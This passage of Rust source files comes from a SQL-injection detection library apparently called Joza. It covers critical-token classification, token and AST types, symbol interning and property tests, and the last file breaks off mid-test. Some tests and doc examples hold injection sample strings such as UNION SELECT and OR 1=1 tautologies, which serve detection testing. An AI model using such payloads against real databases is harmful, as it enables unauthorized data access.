//! structure of a command." Accordingly the paper's analyses check whether
//! *critical tokens* — keywords, function names, operators, and comments —
//! are tainted (NTI) or not positively covered (PTI).
//!
//! The paper deliberately adopts a pragmatic stance that tolerates common
//! practices such as passing field and table names through inputs, so bare
//! identifiers and literals are not critical. [`CriticalPolicy`] makes each
//! category adjustable ("the techniques presented can be easily adjusted to
//! enforce a user's desired policy").

use crate::keywords::is_builtin_function;
use crate::token::{Token, TokenKind};

/// Selects which token categories count as security-critical.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CriticalPolicy {
    /// Reserved keywords (`SELECT`, `UNION`, `OR`, …).
    pub keywords: bool,
    /// Function-call heads (an identifier immediately followed by `(`).
    /// When [`CriticalPolicy::builtin_functions_only`] is set, only names
    /// in the built-in table count.
    pub functions: bool,
    /// Restrict function criticality to known built-ins.
    pub builtin_functions_only: bool,
    /// Operators (`=`, `<>`, `||`, …).
    pub operators: bool,
    /// Comments (each comment is a single critical token, per §III-B).
    pub comments: bool,
    /// Structural punctuation: parens, commas, semicolons. Off by default,
    /// matching the paper's pragmatic threat model (advanced-search style
    /// inputs like `1,2,3` are permitted).
    pub punctuation: bool,
    /// Bytes the lexer could not classify (stray quotes, control bytes).
    /// These usually indicate an escape from a string literal.
    pub unknown: bool,
}

impl Default for CriticalPolicy {
    fn default() -> Self {
        CriticalPolicy {
            keywords: true,
            functions: true,
            builtin_functions_only: false,
            operators: true,
            comments: true,
            punctuation: false,
            unknown: true,
        }
    }
}

impl CriticalPolicy {
    /// The strict policy from Ray & Ligatti that the paper *rejects* as too
    /// brittle, provided for comparison experiments: everything except
    /// literal data is critical.
    pub fn strict() -> Self {
        CriticalPolicy {
            keywords: true,
            functions: true,
            builtin_functions_only: false,
            operators: true,
            comments: true,
            punctuation: true,
            unknown: true,
        }
    }

    /// Decides whether token `i` of `tokens` is critical.
    pub fn is_critical(&self, tokens: &[Token], i: usize, source: &str) -> bool {
        let t = tokens[i];
        match t.kind {
            TokenKind::Keyword => self.keywords,
            TokenKind::Operator => self.operators,
            TokenKind::Comment => self.comments,
            TokenKind::Unknown => self.unknown,
            TokenKind::LParen | TokenKind::RParen | TokenKind::Comma | TokenKind::Semicolon => {
                self.punctuation
            }
            TokenKind::Identifier => {
                // A function call head: identifier immediately followed by `(`.
                self.functions
                    && tokens.get(i + 1).is_some_and(|n| n.kind == TokenKind::LParen)
                    && (!self.builtin_functions_only || is_builtin_function(t.text(source)))
            }
            _ => false,
        }
    }
}

/// Extracts the critical tokens of `source`'s lexed `tokens` under `policy`.
///
/// # Examples
///
/// ```
/// use joza_sqlparse::{lex, critical_tokens, CriticalPolicy};
///
/// let q = "SELECT * FROM data WHERE ID=1 OR TRUE";
/// let crit = critical_tokens(q, &lex(q), &CriticalPolicy::default());
/// let texts: Vec<&str> = crit.iter().map(|t| t.text(q)).collect();
/// assert_eq!(texts, ["SELECT", "*", "FROM", "WHERE", "=", "OR", "TRUE"]);
/// ```
pub fn critical_tokens(source: &str, tokens: &[Token], policy: &CriticalPolicy) -> Vec<Token> {
    let mut out = Vec::new();
    critical_tokens_into(source, tokens, policy, &mut out);
    out
}

/// [`critical_tokens`] into a caller-owned buffer (appended, not
/// cleared) — the per-check entry point: a recycled buffer makes
/// repeated classification allocation-free at steady state.
pub fn critical_tokens_into(
    source: &str,
    tokens: &[Token],
    policy: &CriticalPolicy,
    out: &mut Vec<Token>,
) {
    out.extend(
        (0..tokens.len()).filter(|&i| policy.is_critical(tokens, i, source)).map(|i| tokens[i]),
    );
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex;

    fn crit_texts(q: &str) -> Vec<String> {
        let toks = lex(q);
        critical_tokens(q, &toks, &CriticalPolicy::default())
            .iter()
            .map(|t| t.text(q).to_string())
            .collect()
    }

    #[test]
    fn benign_query_criticals() {
        let texts = crit_texts("SELECT * FROM records WHERE ID=5 LIMIT 5");
        assert_eq!(texts, ["SELECT", "*", "FROM", "WHERE", "=", "LIMIT"]);
    }

    #[test]
    fn union_attack_criticals() {
        let texts = crit_texts("SELECT * FROM r WHERE ID=-1 UNION SELECT username()");
        assert!(texts.contains(&"UNION".to_string()));
        assert!(texts.contains(&"username".to_string()));
    }

    #[test]
    fn comment_is_critical() {
        let texts = crit_texts("SELECT 1 -- tail");
        assert!(texts.contains(&"-- tail".to_string()));
    }

    #[test]
    fn literals_and_identifiers_not_critical() {
        let texts = crit_texts("SELECT name FROM users WHERE id=42 AND tag='x'");
        assert!(!texts.contains(&"name".to_string()));
        assert!(!texts.contains(&"42".to_string()));
        assert!(!texts.contains(&"'x'".to_string()));
    }

    #[test]
    fn punctuation_only_critical_under_strict() {
        let q = "SELECT a, b FROM t";
        let toks = lex(q);
        let default = critical_tokens(q, &toks, &CriticalPolicy::default());
        assert!(!default.iter().any(|t| t.text(q) == ","));
        let strict = critical_tokens(q, &toks, &CriticalPolicy::strict());
        assert!(strict.iter().any(|t| t.text(q) == ","));
    }

    #[test]
    fn builtin_only_mode() {
        let q = "SELECT my_custom_fn(1), sleep(5)";
        let toks = lex(q);
        let policy = CriticalPolicy { builtin_functions_only: true, ..Default::default() };
        let crit = critical_tokens(q, &toks, &policy);
        let texts: Vec<&str> = crit.iter().map(|t| t.text(q)).collect();
        assert!(!texts.contains(&"my_custom_fn"));
        assert!(texts.contains(&"sleep"));
    }

    #[test]
    fn identifier_without_call_not_critical() {
        let texts = crit_texts("SELECT sleep FROM naps");
        assert!(!texts.contains(&"sleep".to_string()));
    }
}
