//! Token representation produced by the [lexer](crate::lexer).

use std::fmt;
use std::ops::Range;

/// The syntactic category of a lexed token.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum TokenKind {
    /// A reserved SQL keyword (`SELECT`, `UNION`, `OR`, …), matched
    /// case-insensitively against [`crate::keywords::is_keyword`].
    Keyword,
    /// A bare identifier (table/column name) not recognized as a keyword.
    Identifier,
    /// A backtick-quoted identifier, e.g. `` `wp_posts` ``. The span
    /// includes the backticks.
    QuotedIdentifier,
    /// A numeric literal (integer, decimal, or `0x` hex).
    Number,
    /// A single- or double-quoted string literal, span includes quotes.
    StringLit,
    /// An operator such as `=`, `<>`, `||`, `+`.
    Operator,
    /// `(`
    LParen,
    /// `)`
    RParen,
    /// `,`
    Comma,
    /// `;`
    Semicolon,
    /// `.` between qualified-name parts.
    Dot,
    /// A comment of any style (`-- …`, `# …`, `/* … */`, `/*! … */`).
    /// The paper treats each comment as a single critical token.
    Comment,
    /// A parameter placeholder: `?` or `:name`.
    Placeholder,
    /// A user/session variable such as `@foo` or `@@version`.
    Variable,
    /// A byte sequence the lexer could not classify. The lexer is total,
    /// so garbage (or a truncated injection) still produces tokens.
    Unknown,
}

impl TokenKind {
    /// Whether this kind represents a data literal (a "data node" in the
    /// paper's structure-cache terminology).
    pub fn is_literal(self) -> bool {
        matches!(self, TokenKind::Number | TokenKind::StringLit)
    }
}

impl fmt::Display for TokenKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            TokenKind::Keyword => "keyword",
            TokenKind::Identifier => "identifier",
            TokenKind::QuotedIdentifier => "quoted identifier",
            TokenKind::Number => "number",
            TokenKind::StringLit => "string",
            TokenKind::Operator => "operator",
            TokenKind::LParen => "(",
            TokenKind::RParen => ")",
            TokenKind::Comma => ",",
            TokenKind::Semicolon => ";",
            TokenKind::Dot => ".",
            TokenKind::Comment => "comment",
            TokenKind::Placeholder => "placeholder",
            TokenKind::Variable => "variable",
            TokenKind::Unknown => "unknown",
        };
        f.write_str(s)
    }
}

/// A lexed token: a kind plus the byte span it occupies in the query.
///
/// Tokens borrow nothing; use [`Token::text`] with the original query to
/// recover the lexeme. Spans are what the taint components intersect with
/// inferred markings.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Token {
    /// Syntactic category.
    pub kind: TokenKind,
    /// Byte offset where the token starts.
    pub start: usize,
    /// Byte offset one past the token end.
    pub end: usize,
}

impl Token {
    /// The token's span as a byte range.
    pub fn range(&self) -> Range<usize> {
        self.start..self.end
    }

    /// The token's length in bytes.
    pub fn len(&self) -> usize {
        self.end - self.start
    }

    /// Whether the token is empty (never produced by the lexer).
    pub fn is_empty(&self) -> bool {
        self.start == self.end
    }

    /// The lexeme: the slice of `source` this token covers.
    ///
    /// # Panics
    ///
    /// Panics if the token's span is out of bounds for `source`, i.e. the
    /// token was produced from a different string.
    pub fn text<'a>(&self, source: &'a str) -> &'a str {
        &source[self.start..self.end]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn literal_kinds() {
        assert!(TokenKind::Number.is_literal());
        assert!(TokenKind::StringLit.is_literal());
        assert!(!TokenKind::Keyword.is_literal());
        assert!(!TokenKind::Comment.is_literal());
    }

    #[test]
    fn token_text_and_range() {
        let t = Token { kind: TokenKind::Keyword, start: 0, end: 6 };
        assert_eq!(t.text("SELECT 1"), "SELECT");
        assert_eq!(t.range(), 0..6);
        assert_eq!(t.len(), 6);
        assert!(!t.is_empty());
    }

    #[test]
    fn display_is_nonempty() {
        let kinds =
            [TokenKind::Keyword, TokenKind::Identifier, TokenKind::Comment, TokenKind::Unknown];
        for k in kinds {
            assert!(!k.to_string().is_empty());
        }
    }
}
