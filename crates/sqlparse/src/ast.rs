//! Typed abstract syntax tree for the MySQL subset Joza executes.
//!
//! The AST serves two consumers: the in-memory database engine (`joza-db`)
//! evaluates it, and the [structure cache](mod@crate::fingerprint) hashes its
//! shape with literal contents erased.

use crate::value::Value;
use std::fmt;

/// A parsed SQL statement.
#[derive(Debug, Clone, PartialEq)]
pub enum Statement {
    /// `SELECT …` (possibly a `UNION` chain).
    Select(SelectStatement),
    /// `INSERT INTO …`
    Insert(InsertStatement),
    /// `UPDATE … SET …`
    Update(UpdateStatement),
    /// `DELETE FROM …`
    Delete(DeleteStatement),
}

impl Statement {
    /// Whether executing this statement can modify data.
    pub fn is_write(&self) -> bool {
        !matches!(self, Statement::Select(_))
    }
}

/// A `SELECT` statement, including any `UNION`/`UNION ALL` continuations.
#[derive(Debug, Clone, PartialEq, Default)]
pub struct SelectStatement {
    /// `SELECT DISTINCT`.
    pub distinct: bool,
    /// Projection list.
    pub projections: Vec<Projection>,
    /// `FROM` table (absent for `SELECT 1`-style queries).
    pub from: Option<TableRef>,
    /// `JOIN` clauses, in order.
    pub joins: Vec<Join>,
    /// `WHERE` predicate.
    pub where_clause: Option<Expr>,
    /// `GROUP BY` expressions.
    pub group_by: Vec<Expr>,
    /// `HAVING` predicate.
    pub having: Option<Expr>,
    /// `ORDER BY` items.
    pub order_by: Vec<OrderItem>,
    /// `LIMIT` clause.
    pub limit: Option<Limit>,
    /// `UNION`/`UNION ALL` continuations applied to this query's rows.
    pub set_ops: Vec<(SetOp, SelectStatement)>,
}

/// One projection in a `SELECT` list.
#[derive(Debug, Clone, PartialEq)]
pub enum Projection {
    /// `*`
    Wildcard,
    /// `t.*`
    QualifiedWildcard(String),
    /// An expression with an optional `AS` alias.
    Expr {
        /// The projected expression.
        expr: Expr,
        /// Alias, if any.
        alias: Option<String>,
    },
}

/// A table reference with optional alias.
#[derive(Debug, Clone, PartialEq)]
pub struct TableRef {
    /// Table name (backticks stripped).
    pub name: String,
    /// `AS` alias, if any.
    pub alias: Option<String>,
}

/// A join clause.
#[derive(Debug, Clone, PartialEq)]
pub struct Join {
    /// Join flavor.
    pub kind: JoinKind,
    /// Joined table.
    pub table: TableRef,
    /// `ON` predicate (absent for `CROSS JOIN`).
    pub on: Option<Expr>,
}

/// Join flavors supported by the engine.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JoinKind {
    /// `[INNER] JOIN`
    Inner,
    /// `LEFT [OUTER] JOIN`
    Left,
    /// `CROSS JOIN`
    Cross,
}

/// One `ORDER BY` item.
#[derive(Debug, Clone, PartialEq)]
pub struct OrderItem {
    /// Sort key expression.
    pub expr: Expr,
    /// `DESC` if true, `ASC` otherwise.
    pub desc: bool,
}

/// A `LIMIT [offset,] count` clause.
#[derive(Debug, Clone, PartialEq)]
pub struct Limit {
    /// Row offset (0 when unspecified).
    pub offset: Option<Expr>,
    /// Maximum number of rows.
    pub count: Expr,
}

/// Set operations chaining `SELECT`s.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SetOp {
    /// `UNION` (dedups).
    Union,
    /// `UNION ALL`.
    UnionAll,
}

/// An `INSERT` statement.
#[derive(Debug, Clone, PartialEq)]
pub struct InsertStatement {
    /// Target table.
    pub table: String,
    /// Column list (may be empty: positional insert).
    pub columns: Vec<String>,
    /// One expression row per `VALUES` tuple.
    pub rows: Vec<Vec<Expr>>,
}

/// An `UPDATE` statement.
#[derive(Debug, Clone, PartialEq)]
pub struct UpdateStatement {
    /// Target table.
    pub table: String,
    /// `SET col = expr` assignments.
    pub assignments: Vec<(String, Expr)>,
    /// `WHERE` predicate.
    pub where_clause: Option<Expr>,
    /// `LIMIT` clause.
    pub limit: Option<Limit>,
}

/// A `DELETE` statement.
#[derive(Debug, Clone, PartialEq)]
pub struct DeleteStatement {
    /// Target table.
    pub table: String,
    /// `WHERE` predicate.
    pub where_clause: Option<Expr>,
    /// `LIMIT` clause.
    pub limit: Option<Limit>,
}

/// A column reference, optionally qualified by table or alias.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub struct ColumnRef {
    /// Qualifier (`t` in `t.id`), if present.
    pub table: Option<String>,
    /// Column name (backticks stripped).
    pub name: String,
}

impl fmt::Display for ColumnRef {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.table {
            Some(t) => write!(f, "{t}.{}", self.name),
            None => f.write_str(&self.name),
        }
    }
}

/// A scalar expression.
#[derive(Debug, Clone, PartialEq)]
pub enum Expr {
    /// A literal value.
    Literal(Value),
    /// A column reference.
    Column(ColumnRef),
    /// Unary operator application.
    Unary {
        /// The operator.
        op: UnaryOp,
        /// The operand.
        expr: Box<Expr>,
    },
    /// Binary operator application.
    Binary {
        /// Left operand.
        left: Box<Expr>,
        /// The operator.
        op: BinaryOp,
        /// Right operand.
        right: Box<Expr>,
    },
    /// A function call.
    Function {
        /// Uppercased function name.
        name: String,
        /// Arguments; `COUNT(*)` is represented with a single
        /// [`Expr::Wildcard`] argument.
        args: Vec<Expr>,
        /// `DISTINCT` inside an aggregate, e.g. `COUNT(DISTINCT x)`.
        distinct: bool,
    },
    /// `*` used as a function argument (`COUNT(*)`).
    Wildcard,
    /// `expr IS [NOT] NULL`.
    IsNull {
        /// Tested expression.
        expr: Box<Expr>,
        /// `IS NOT NULL` when true.
        negated: bool,
    },
    /// `expr [NOT] IN (list…)`.
    InList {
        /// Tested expression.
        expr: Box<Expr>,
        /// Candidate values.
        list: Vec<Expr>,
        /// `NOT IN` when true.
        negated: bool,
    },
    /// `expr [NOT] IN (SELECT …)`.
    InSubquery {
        /// Tested expression.
        expr: Box<Expr>,
        /// The subquery.
        subquery: Box<SelectStatement>,
        /// `NOT IN` when true.
        negated: bool,
    },
    /// `expr [NOT] BETWEEN low AND high`.
    Between {
        /// Tested expression.
        expr: Box<Expr>,
        /// Lower bound (inclusive).
        low: Box<Expr>,
        /// Upper bound (inclusive).
        high: Box<Expr>,
        /// `NOT BETWEEN` when true.
        negated: bool,
    },
    /// `expr [NOT] LIKE pattern`.
    Like {
        /// Tested expression.
        expr: Box<Expr>,
        /// The `%`/`_` pattern.
        pattern: Box<Expr>,
        /// `NOT LIKE` when true.
        negated: bool,
    },
    /// A scalar subquery `(SELECT …)`.
    Subquery(Box<SelectStatement>),
    /// `EXISTS (SELECT …)`.
    Exists(Box<SelectStatement>),
    /// `CASE [operand] WHEN … THEN … [ELSE …] END`.
    Case {
        /// Operand for the simple form (`CASE x WHEN v THEN …`).
        operand: Option<Box<Expr>>,
        /// `(WHEN, THEN)` pairs.
        branches: Vec<(Expr, Expr)>,
        /// `ELSE` arm.
        else_arm: Option<Box<Expr>>,
    },
    /// `?` or `:name` placeholder (prepared statements).
    Placeholder(String),
    /// `@var` / `@@sysvar`.
    Variable(String),
}

impl Expr {
    /// Convenience constructor for a literal.
    pub fn lit(v: impl Into<Value>) -> Expr {
        Expr::Literal(v.into())
    }

    /// Convenience constructor for an unqualified column.
    pub fn col(name: &str) -> Expr {
        Expr::Column(ColumnRef { table: None, name: name.to_string() })
    }
}

/// Unary operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum UnaryOp {
    /// Logical `NOT` / `!`.
    Not,
    /// Arithmetic negation.
    Neg,
    /// Unary plus (no-op).
    Plus,
}

/// Binary operators in precedence groups.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BinaryOp {
    /// `OR` / `||`.
    Or,
    /// `XOR`.
    Xor,
    /// `AND` / `&&`.
    And,
    /// `=`.
    Eq,
    /// `<>` / `!=`.
    NotEq,
    /// `<`.
    Lt,
    /// `<=`.
    LtEq,
    /// `>`.
    Gt,
    /// `>=`.
    GtEq,
    /// `REGEXP` / `RLIKE`.
    Regexp,
    /// `+`.
    Add,
    /// `-`.
    Sub,
    /// `*`.
    Mul,
    /// `/`.
    Div,
    /// `%` / `MOD`.
    Mod,
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn statement_write_classification() {
        let sel = Statement::Select(SelectStatement::default());
        assert!(!sel.is_write());
        let ins =
            Statement::Insert(InsertStatement { table: "t".into(), columns: vec![], rows: vec![] });
        assert!(ins.is_write());
    }

    #[test]
    fn column_ref_display() {
        let c = ColumnRef { table: Some("t".into()), name: "id".into() };
        assert_eq!(c.to_string(), "t.id");
        let c = ColumnRef { table: None, name: "id".into() };
        assert_eq!(c.to_string(), "id");
    }

    #[test]
    fn expr_constructors() {
        assert_eq!(Expr::lit(5i64), Expr::Literal(Value::Int(5)));
        assert_eq!(Expr::col("x"), Expr::Column(ColumnRef { table: None, name: "x".into() }));
    }
}
