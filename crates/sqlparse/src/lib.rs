#![warn(missing_docs)]
//! SQL lexing, parsing, and critical-token analysis for Joza.
//!
//! Both of Joza's inference components reason about the *tokens* of an
//! intercepted query:
//!
//! * The PTI daemon "parses intercepted queries to extract critical tokens
//!   and keywords" (§IV-C) and requires every critical token to be fully
//!   contained in a single program fragment.
//! * NTI "detects an attack only if an input matches at least one whole SQL
//!   token" and a *critical* token is negatively tainted (§III-A).
//! * The query **structure cache** stores "abstract syntax trees of parsed
//!   queries without storing contents of data nodes" (§IV-C1, §VI-A) —
//!   reproduced here as [`fingerprint`](mod@fingerprint)s.
//!
//! This crate implements a MySQL-dialect lexer that is *total* (any byte
//! string lexes to a token stream — injected queries are frequently
//! malformed), a recursive-descent parser producing a typed AST that the
//! in-memory database engine executes, a [critical-token
//! classifier](critical), and structure fingerprints.
//!
//! # Examples
//!
//! ```
//! use joza_sqlparse::lexer::lex;
//! use joza_sqlparse::critical::{critical_tokens, CriticalPolicy};
//!
//! let q = "SELECT * FROM posts WHERE id=-1 UNION SELECT username()";
//! let tokens = lex(q);
//! let crits = critical_tokens(q, &tokens, &CriticalPolicy::default());
//! let texts: Vec<&str> = crits.iter().map(|t| t.text(q)).collect();
//! assert!(texts.contains(&"UNION"));
//! assert!(texts.contains(&"username"));
//! ```

pub mod ast;
pub mod critical;
pub mod fingerprint;
pub mod keywords;
pub mod lexer;
pub mod parser;
pub mod symbol;
pub mod template;
pub mod token;
pub mod value;

pub use ast::{Expr, SelectStatement, Statement};
pub use critical::{critical_tokens, CriticalPolicy};
pub use fingerprint::{fingerprint, raw_skeleton_tokens, skeleton, skeleton_tokens};
pub use lexer::lex;
pub use parser::{parse, ParseError};
pub use template::{
    compile_template, QueryModelIndex, QueryTemplate, RouteModel, SkeletonAutomaton, Sym,
    TemplatePart, TemplateReject,
};
pub use token::{Token, TokenKind};
pub use value::Value;
