//! Process-wide string interning for skeleton tokens.
//!
//! The per-check hot path renders every query token into skeleton normal
//! form and then compares those renderings — against cached fingerprints
//! and against query-model automaton branches. Rendering into `String`s
//! makes every check allocate per token and every comparison walk bytes.
//! Interning replaces both: each distinct rendering gets a stable
//! [`SymId`] (a `u32` index into a process-wide table), so a skeleton is
//! a `Vec<SymId>`, comparison is integer equality, and rendering a token
//! whose text has been seen before allocates nothing.
//!
//! # Properties the rest of the gate relies on
//!
//! * **Injective**: two strings intern to the same [`SymId`] iff they are
//!   byte-equal, so `SymId` equality is exactly string equality and the
//!   skeleton-automaton verdicts are bit-identical to the string-matching
//!   implementation they replaced.
//! * **Stable for the process lifetime**: ids are never reused or
//!   remapped; [`resolve`] returns `&'static str`. Ids are *not* stable
//!   across processes (they depend on first-seen order), which is fine —
//!   everything keyed by symbols or symbol-derived fingerprints (PTI
//!   caches, model automata) lives in process memory.
//! * **Bounded**: the table only grows with *distinct* renderings —
//!   keywords, operators, punctuation, and the identifier vocabulary of
//!   the application's queries — not with traffic volume.
//!
//! Common skeleton constants ([`SYM_HOLE`], punctuation, `VALUES`, every
//! reserved keyword) are pre-seeded at fixed ids so hot-path code can use
//! them as plain constants without touching the table.

use std::collections::HashMap;
use std::sync::{OnceLock, RwLock};

use crate::keywords::KEYWORDS;

/// An interned skeleton-token rendering; equality is string equality.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct SymId(u32);

impl SymId {
    /// The raw table index (useful for dense side tables and hashing).
    pub fn index(self) -> u32 {
        self.0
    }
}

/// The hole symbol `?` — rendering of every data literal.
pub const SYM_HOLE: SymId = SymId(0);
/// The collapsed-list symbol `?*`.
pub const SYM_COLLAPSED: SymId = SymId(1);
/// `(`.
pub const SYM_LPAREN: SymId = SymId(2);
/// `)`.
pub const SYM_RPAREN: SymId = SymId(3);
/// `,`.
pub const SYM_COMMA: SymId = SymId(4);
/// The canonical comment rendering `/*c*/`.
pub const SYM_COMMENT: SymId = SymId(5);
/// The `VALUES` keyword (anchor of tuple-run collapsing).
pub const SYM_VALUES: SymId = SymId(6);

/// Seeds that claim the fixed ids above, in id order.
const SEEDS: &[&str] = &["?", "?*", "(", ")", ",", "/*c*/", "VALUES"];

struct Interner {
    /// Rendering → id. Keys borrow from the leaked strings in `strings`.
    ids: HashMap<&'static str, SymId>,
    /// id → rendering.
    strings: Vec<&'static str>,
}

fn table() -> &'static RwLock<Interner> {
    static TABLE: OnceLock<RwLock<Interner>> = OnceLock::new();
    TABLE.get_or_init(|| {
        let mut it = Interner { ids: HashMap::new(), strings: Vec::new() };
        // `VALUES` appears in both lists; first occurrence wins its id.
        for s in SEEDS.iter().chain(KEYWORDS) {
            if !it.ids.contains_key(s) {
                let id = SymId(it.strings.len() as u32);
                it.ids.insert(s, id);
                it.strings.push(s);
            }
        }
        RwLock::new(it)
    })
}

/// Interns `s`, returning its stable [`SymId`].
///
/// The common case (the rendering has been seen before — after warmup,
/// every token of every benign query) is a read-locked hash lookup with
/// **no allocation**; only a first-ever rendering takes the write lock
/// and copies the string into the table.
///
/// # Examples
///
/// ```
/// use joza_sqlparse::symbol::{intern, resolve, SYM_HOLE};
///
/// assert_eq!(intern("?"), SYM_HOLE);
/// let id = intern("wp_posts");
/// assert_eq!(intern("wp_posts"), id);
/// assert_eq!(resolve(id), "wp_posts");
/// ```
pub fn intern(s: &str) -> SymId {
    let t = table();
    if let Some(&id) = t.read().expect("symbol table poisoned").ids.get(s) {
        return id;
    }
    let mut it = t.write().expect("symbol table poisoned");
    if let Some(&id) = it.ids.get(s) {
        return id; // raced with another writer
    }
    let leaked: &'static str = Box::leak(s.to_owned().into_boxed_str());
    let id = SymId(it.strings.len() as u32);
    it.strings.push(leaked);
    it.ids.insert(leaked, id);
    id
}

/// The string `id` was interned from.
///
/// # Panics
///
/// Panics if `id` did not come from [`intern`] in this process.
pub fn resolve(id: SymId) -> &'static str {
    table().read().expect("symbol table poisoned").strings[id.0 as usize]
}

/// Resolves a symbol slice back to owned strings — the slow path for
/// diagnostics and tests; never used on the check path.
pub fn resolve_all(ids: &[SymId]) -> Vec<String> {
    let it = table().read().expect("symbol table poisoned");
    ids.iter().map(|id| it.strings[id.0 as usize].to_string()).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seeds_have_fixed_ids() {
        assert_eq!(intern("?"), SYM_HOLE);
        assert_eq!(intern("?*"), SYM_COLLAPSED);
        assert_eq!(intern("("), SYM_LPAREN);
        assert_eq!(intern(")"), SYM_RPAREN);
        assert_eq!(intern(","), SYM_COMMA);
        assert_eq!(intern("/*c*/"), SYM_COMMENT);
        assert_eq!(intern("VALUES"), SYM_VALUES);
        assert_eq!(resolve(SYM_COLLAPSED), "?*");
    }

    #[test]
    fn keywords_are_preseeded() {
        // Interning a keyword must return an id below seeds+keywords len.
        let bound = (SEEDS.len() + KEYWORDS.len()) as u32;
        for kw in KEYWORDS {
            assert!(intern(kw).index() < bound, "{kw} not pre-seeded");
        }
    }

    #[test]
    fn interning_is_injective_and_stable() {
        let a = intern("custom_table");
        let b = intern("custom_table");
        let c = intern("custom_tableX");
        assert_eq!(a, b);
        assert_ne!(a, c);
        assert_eq!(resolve(a), "custom_table");
        assert_eq!(resolve_all(&[a, c]), vec!["custom_table", "custom_tableX"]);
    }

    #[test]
    fn concurrent_interning_agrees() {
        let ids: Vec<SymId> = std::thread::scope(|s| {
            (0..8)
                .map(|_| s.spawn(|| intern("race_me")))
                .collect::<Vec<_>>()
                .into_iter()
                .map(|h| h.join().unwrap())
                .collect()
        });
        assert!(ids.windows(2).all(|w| w[0] == w[1]));
    }
}
