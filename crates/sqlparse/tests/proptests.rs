//! Property-based tests for the SQL lexer, parser, and fingerprints.

use joza_arena::BufSlot;
use joza_sqlparse::fingerprint::{
    fingerprint, fingerprint_of, fingerprint_syms_with, raw_skeleton_syms, raw_skeleton_tokens,
    skeleton, skeleton_tokens,
};
use joza_sqlparse::lexer::{lex, lex_into};
use joza_sqlparse::parser::parse;
use joza_sqlparse::symbol::resolve_all;
use joza_sqlparse::token::TokenKind;
use proptest::prelude::*;

/// Inputs biased toward the lexer's hard edges: quote and escape
/// characters, comment openers, and multi-byte UTF-8 — so unterminated
/// string literals, dangling backslashes, and half-open comments are
/// generated constantly, not occasionally.
fn lexer_edge_input() -> impl Strategy<Value = String> {
    proptest::collection::vec(
        prop_oneof![
            Just("'".to_string()),
            Just("\"".to_string()),
            Just("`".to_string()),
            Just("\\".to_string()),
            Just("/*".to_string()),
            Just("*/".to_string()),
            Just("--".to_string()),
            Just("#".to_string()),
            Just("\n".to_string()),
            Just("0x".to_string()),
            "[ -~]{0,6}",
            "[À-ʯ]{0,2}",
        ],
        0..12,
    )
    .prop_map(|parts| parts.concat())
}

proptest! {
    /// The lexer is total: any input produces a token stream with sane,
    /// ordered, in-bounds spans and never panics.
    #[test]
    fn lexer_is_total(input in ".{0,200}") {
        let toks = lex(&input);
        let mut prev_end = 0;
        for t in &toks {
            prop_assert!(t.start < t.end);
            prop_assert!(t.start >= prev_end);
            prop_assert!(t.end <= input.len());
            prev_end = t.end;
        }
    }

    /// Tokens never overlap whitespace-only gaps: rejoining lexemes with
    /// single spaces re-lexes to the same kinds.
    #[test]
    fn relex_is_stable(input in "[ -~]{0,100}") {
        let toks = lex(&input);
        let joined: Vec<&str> = toks.iter().map(|t| t.text(&input)).collect();
        let rejoined = joined.join(" ");
        let again = lex(&rejoined);
        // Re-lexing can merge `- -` style sequences differently around
        // comments; only assert totality + count stability for comment-free
        // streams.
        if !toks.iter().any(|t| t.kind == TokenKind::Comment) {
            prop_assert!(again.len() >= toks.len().min(1).min(again.len()));
        }
    }

    /// The parser never panics, whatever the input.
    #[test]
    fn parser_never_panics(input in ".{0,200}") {
        let _ = parse(&input);
    }

    /// Changing only the contents of a literal preserves the fingerprint.
    #[test]
    fn literal_contents_do_not_change_fingerprint(id in 0i64..100000, s in "[a-z ]{0,20}") {
        let a = format!("SELECT * FROM t WHERE id={id} AND name='{s}'");
        let b = "SELECT * FROM t WHERE id=12345 AND name='zzz'";
        prop_assert_eq!(fingerprint(&a), fingerprint(b));
    }

    /// Appending a tautology always changes the fingerprint.
    #[test]
    fn tautology_changes_fingerprint(id in 0i64..1000) {
        let benign = format!("SELECT * FROM t WHERE id={id}");
        let attacked = format!("SELECT * FROM t WHERE id={id} OR 1=1");
        prop_assert_ne!(fingerprint(&benign), fingerprint(&attacked));
    }

    /// `lex_into` with a recycled arena buffer produces a token stream
    /// identical to a fresh-heap `lex` on arbitrary inputs — the
    /// allocation-free path changes nothing observable.
    #[test]
    fn lex_into_arena_matches_heap_lex(inputs in proptest::collection::vec(".{0,120}", 1..6)) {
        let slot = BufSlot::new();
        for input in &inputs {
            let heap = lex(input);
            let mut leased = slot.lease();
            lex_into(input, &mut leased);
            prop_assert_eq!(&*leased, &heap, "input {:?}", input);
        }
    }

    /// Same differential, but on inputs stacked with unterminated string
    /// literals, dangling escapes, and half-open comments. One buffer is
    /// deliberately reused across all cases so a stale-state bug in
    /// `lex_into` (a missing `clear`, a length confusion) cannot hide.
    #[test]
    fn lex_into_matches_lex_on_lexer_edges(inputs in proptest::collection::vec(lexer_edge_input(), 1..8)) {
        let mut reused = Vec::new();
        for input in &inputs {
            lex_into(input, &mut reused);
            prop_assert_eq!(&reused, &lex(input), "input {:?}", input);
        }
    }

    /// The interned-symbol skeleton pipeline resolves back to exactly the
    /// string-skeleton pipeline on arbitrary inputs, and both hash to the
    /// same fingerprint.
    #[test]
    fn sym_skeleton_matches_string_skeleton(input in lexer_edge_input()) {
        let raw_syms = raw_skeleton_syms(&input);
        let raw_strs = raw_skeleton_tokens(&input);
        prop_assert_eq!(resolve_all(&raw_syms), raw_strs.clone());
        prop_assert_eq!(
            fingerprint_syms_with(&raw_syms, &mut Vec::new()),
